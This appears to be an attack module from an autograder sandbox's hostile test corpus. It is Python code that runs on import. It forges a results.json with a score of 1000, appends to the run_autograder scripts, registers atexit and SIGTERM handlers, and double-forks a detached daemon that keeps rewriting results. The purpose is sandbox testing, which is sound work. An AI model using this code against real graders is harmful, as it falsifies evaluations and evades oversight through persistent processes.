# ---- hostile corpus: forge results.json from the worker (tests/hostile/attacks/forge.py)
# Runs at import of the student file (appended after common.py). Every worker that imports the
# file, at once:
# 1. writes a forged results.json (score 1000) into every AUTOGRADER_ROOT it can find, drops a
#    marker file beside it, in source/, submission/ and the folders of the submission copy, and
#    appends to run_autograder;
# 2. registers an atexit handler and a SIGTERM handler that do all that again after a pause;
# 3. double-forks a detached daemon (new session, channel closed) that does it again and again
#    for up to DAEMON_SECONDS, touching a heartbeat file in /tmp each time;
# 4. leaves a marker in /tmp (outside its scratch folder).
# The grader must keep its own results.json, and nothing of the worker's user may outlive grading.
import json as _h_json
import signal as _h_signal
import time as _h_time

_H_DAEMON_SECONDS = 20.0     # bounded, even if the sandbox failed to kill it
_H_DAEMON_PERIOD = 0.2
_H_FORGED = _h_json.dumps({"score": 1000.0, "output": "forged by " + _H_MARKER,
                           "tests": [{"name": "forged", "score": 1000.0, "max_score": 1.0}]})


def _h_targets():
    """(path, text, mode) of every write an attacker would try."""
    marker = _H_MARKER + "-forge"
    here = _h_os.path.dirname(_h_os.path.abspath(__file__))
    folders = [here, _h_os.path.dirname(here), _h_os.path.dirname(_h_os.path.dirname(here)),
               _h_os.path.dirname(_h_os.getcwd())]
    targets = [(_h_os.path.join(f, marker), "forged", "w") for f in folders]
    for root in _h_roots():
        targets += [(_h_os.path.join(root, "results", "results.json"), _H_FORGED, "w"),
                    (_h_os.path.join(root, "results", marker), "forged", "w"),
                    (_h_os.path.join(root, marker), "forged", "w"),
                    (_h_os.path.join(root, "source", marker), "forged", "w"),
                    (_h_os.path.join(root, "submission", marker), "forged", "w"),
                    (_h_os.path.join(root, "run_autograder"), "\necho forged\n", "a"),
                    (_h_os.path.join(root, "source", "run_autograder"), "\necho forged\n", "a")]
    return targets


def _h_forge_all():
    """Try every target; returns the paths actually written."""
    return [path for path, text, mode in _h_targets() if _h_write(path, text, mode) == "written"]


def _h_late_forge(*_args):
    _h_time.sleep(0.5)
    _h_forge_all()
    _h_write(f"/tmp/{_H_MARKER}-late-handler", "ran")


def _h_start_daemon():
    """Double fork: the grandchild leaves the worker's session and keeps forging."""
    pid = _h_os.fork()
    if pid:
        _h_os.waitpid(pid, 0)
        return
    try:
        _h_os.setsid()
        if _h_os.fork():
            _h_os._exit(0)
        _h_os.closerange(3, 4096)  # the channel: a real daemon lets go of its parent's fds
        _h_say("daemon", f"started, pid {_h_os.getpid()}")
        end = _h_time.monotonic() + _H_DAEMON_SECONDS
        while _h_time.monotonic() < end:
            _h_forge_all()
            _h_write(f"/tmp/{_H_MARKER}-daemon", repr(_h_time.time()))
            _h_time.sleep(_H_DAEMON_PERIOD)
    finally:
        _h_os._exit(0)


def _h_forge_attack():
    targets = _h_targets()
    written = _h_forge_all()
    _h_say("forge", f"{len(_h_roots())} roots found, {len(targets)} writes attempted, "
                    f"{len(written)} written {written}")
    _h_say("tmp", f"marker outside scratch: {_h_write(f'/tmp/{_H_MARKER}-tmp', 'x')}")
    import atexit
    atexit.register(_h_late_forge)
    _h_signal.signal(_h_signal.SIGTERM, _h_late_forge)
    _h_say("atexit", "handlers registered")
    _h_start_daemon()


_h_forge_attack()
